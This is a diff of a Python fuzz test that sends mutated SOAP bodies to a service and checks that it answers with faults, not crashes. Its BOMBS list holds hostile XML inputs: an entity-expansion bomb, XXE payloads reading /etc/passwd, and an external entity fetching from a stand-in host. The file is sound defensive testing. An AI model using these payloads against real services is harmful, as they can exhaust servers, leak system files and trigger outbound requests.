@@ -1,9 +1,9 @@
 """
 Mutated SOAP bodies against a service: ``python -m tests.qbwc.fuzz --count 200000 --seed 1``.
 
-Half of the mutations know SOAP (elements, names, namespaces, encodings, entities, depth), half are blind to bytes.
-Each must give a SOAP fault or a valid answer, never a status of 500, within 100 ms of processor time, and the
-process must not grow by more than 64 MB.
+Half of the mutations know SOAP (elements, names, namespaces, encodings, entities, depth), half are blind to
+bytes. Each must give a SOAP fault or a valid answer, never a status of 500, within 100 ms of processor time,
+and the process must not grow by more than 64 MB.
 """
 
 import argparse
@@ -25,7 +25,7 @@ from tests.qbwc.support import NotedWork
 ENVELOPE = "http://schemas.xmlsoap.org/soap/envelope/"
 BYTES_MAX = 1_000_000
 BOMBS = (
-    b'<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>',
+    b'<!DOCTYPE a [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>',
     b'<!DOCTYPE a SYSTEM "file:///etc/passwd">',
     b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
     b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://192.0.2.1/x"> %p;]>',
